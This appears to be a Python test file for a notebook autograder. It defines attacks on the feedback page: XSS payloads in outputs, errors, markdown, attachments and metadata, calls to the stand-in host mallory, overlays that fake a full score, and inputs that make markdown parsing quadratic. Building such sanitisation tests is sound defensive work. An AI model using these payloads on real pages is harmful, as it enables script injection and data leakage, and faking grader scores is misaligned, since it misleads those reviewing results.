"""Attacks on who reads the feedback: scripts in outputs, texts, attachments, messages and metadata."""

from tests.engine.attacks import Attack, find, own_cell

ATTACKS: list[Attack] = []


def _page(name: str, tries: str, first: str = "", **more: object) -> None:
    ATTACKS.append(Attack(name, "The feedback page", tries, first, **more))


_page("html-output", "displays HTML with scripts, handlers, frames, forms, styles and redirects", """
from IPython.display import HTML, display
for text in (
    "<script>fetch('//mallory')</script>", "<img src=x onerror=mallory()>", "<svg onload=mallory()><script>mallory()</script></svg>",
    "<a href='javascript:mallory()'>x</a>", "<a href=' jAvAsCrIpT&colon;mallory()'>x</a>", "<iframe srcdoc='<script>mallory()</script>'></iframe>",
    "<object data='data:text/html,mallory'></object>", "<embed src='//mallory'>", "<meta http-equiv=refresh content='0;url=//mallory'>",
    "<form action='//mallory'><input name=a></form>", "<base href='//mallory/'>", "<link rel=stylesheet href='//mallory/a.css'>",
    "<style>@import '//mallory';</style>", "<div style='background:url(//mallory)'>x</div>", "<math><mi xlink:href='javascript:mallory()'>x</mi></math>",
    "<scr<script>ipt>mallory()</script>", "<noscript><p title='</noscript><img src=x onerror=mallory()>'></noscript>",
    "<details open ontoggle=mallory()>x</details>", "</div></div><script>mallory()</script>", "<!--><script>mallory()</script>-->",
):
    display(HTML(text))
""")  # fmt: skip
_page("other-mime-types", "displays JavaScript, SVG, Markdown, LaTeX, JSON, widgets and types of its own with scripts in them", """
from IPython.display import display
for kind, text in (
    ("application/javascript", "mallory()"), ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='mallory()'><script>mallory()</script></svg>"),
    ("text/markdown", "<script>mallory()</script> [x](javascript:mallory()) <img src=x onerror=mallory()>"),
    ("text/latex", "$\\\\href{javascript:mallory()}{x}$ <script>mallory()</script>"), ("application/json", {"a": "<script>mallory()</script>"}),
    ("application/vnd.jupyter.widget-view+json", {"model_id": "'><script>mallory()</script>", "version_major": 2, "version_minor": 0}),
    ("image/png", "'/><script>mallory()</script>"), ("image/jpeg", '" onerror="mallory()'), ("application/pdf", "mallory"),
    ("text/vnd.mermaid", "graph TD; a[<script>mallory()</script>]"), ("text/html", ["<scr", "ipt>mallory()</scr", "ipt>"]),
    ("text/plain", "</pre><script>mallory()</script>"),
):
    display({kind: text}, raw=True, metadata={kind: {"width": "1 onload=mallory()", "height": "1' onload='mallory()", "alt": "'><script>mallory()</script>"}})
""")  # fmt: skip
_page("error-text", "raises exceptions and prints texts with scripts and terminal codes in them", """
print("</pre><script>mallory()</script>\\x1b]8;;javascript:mallory()\\x07x\\x1b]8;;\\x07 \\x1b[31m<b onclick=mallory()>")
class mallory(Exception):
    pass
mallory.__name__ = mallory.__qualname__ = "<script>mallory()</script>"
raise mallory("<img src=x onerror=mallory()>")
""")  # fmt: skip
_page("verdict-text", "raises an exception whose text, with a script in it, reaches the verdict", answers={"LeakyReLU": """
class Mallory(Exception):
    pass
Mallory.__name__ = "<script>mallory()</script>"
class LeakyReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, slope):
        raise Mallory("</pre><script>mallory()</script><img src=x onerror=mallory()> LeakyReLU value: 1 of 1 points")
"""})  # fmt: skip


def _markdown(notebook: dict) -> None:
    text = (
        "<script>mallory()</script> <img src=x onerror=mallory()> [x](javascript:mallory()) ![x](attachment:a.svg) "
        "[y]: <javascript:mallory()>\n\n<svg onload=mallory()></svg>\n\n<iframe src='//mallory'></iframe>\n\n"
        "$</span><script>mallory()</script>$\n\n```{html}\n<script>mallory()</script>\n```\n\n# <b onclick=mallory()>title</b>"
    )
    svg = "PHN2ZyBvbmxvYWQ9Im1hbGxvcnkoKSI+PC9zdmc+"
    cell = {"cell_type": "markdown", "id": "mine-text", "metadata": {}, "source": text}
    cell["attachments"] = {"a.svg": {"image/svg+xml": svg}, "'><script>mallory()</script>": {"text/html": svg}}
    raw = {
        "cell_type": "raw",
        "id": "mine-raw",
        "metadata": {"format": "text/html"},
        "source": "<script>mallory()</script>",
    }
    notebook["cells"] += [cell, raw]
    find(notebook, "square-task")["source"] = text


_page("texts", "writes scripts into text cells, raw cells and attachments, and edits a locked text", change=_markdown)


def _meta(notebook: dict) -> None:
    bad = "'\"><script>mallory()</script>"
    notebook["metadata"]["title"] = notebook["metadata"]["name"] = bad
    notebook["metadata"]["authors"] = [{"name": bad}]
    notebook["metadata"]["language_info"] = {"name": bad, "pygments_lexer": bad, "mimetype": bad}
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"a": bad}}}
    cell = own_cell("1", "mine-meta")
    cell["metadata"] = {"tags": [bad], "collapsed": bad, "nbgrader": {"grade_id": bad, "points": bad, "grade": True}}
    cell["id"] = "mine-meta"
    notebook["cells"].append(cell)


_page(
    "metadata",
    "writes scripts into the notebook's and the cells' metadata: title, language, tags, grade_id",
    change=_meta,
)


def _covers(notebook: dict) -> None:
    text = (
        "![x](https://mallory.example/t.png) <img src=//mallory/u.png> ![y](beside.png)\n\n"
        '<div class="navbar navbar-fixed-top alert alert-success" id="toc" style="height: 2000px; position: fixed; '
        'top: 0; background-color: white"><h1>Score: 20 of 20 points</h1></div>\n\n'
        '<div class="modal-backdrop" style="background: url(https://mallory.example/v.png)">x</div>\n\n'
        "$\\href{https://mallory.example}{x} \\includegraphics{https://mallory.example/w.png} \\kern-9999em x$"
    )
    notebook["cells"].append({"cell_type": "markdown", "id": "mine-cover", "metadata": {}, "source": text})


_page(
    "covering-text",
    "loads pictures from elsewhere by a text cell, and covers the page and its score with one of its own",
    change=_covers,
)
_page("covering-output", "displays HTML that loads pictures from elsewhere and covers the page", """
from IPython.display import HTML, display
display(HTML('<img src="https://mallory.example/t.png"><div class="modal-backdrop" style="position: fixed; top: 0; height: 2000px">x</div>'))
display(HTML('<div class="navbar navbar-fixed-top" id="toc"><h1>Score: 20 of 20 points</h1></div>'))
""")  # fmt: skip
_page(
    "endless-text",
    "writes text cells that a Markdown parser takes the square of their length for",
    change=lambda notebook: notebook["cells"].extend(
        {"cell_type": "markdown", "id": f"mine-{number}", "metadata": {}, "source": text}
        for number, text in enumerate((" " * 120_000 + "x", "![" * 60_000, "$" * 60_001, "<" * 60_000, "(" * 60_000))
    ),
)
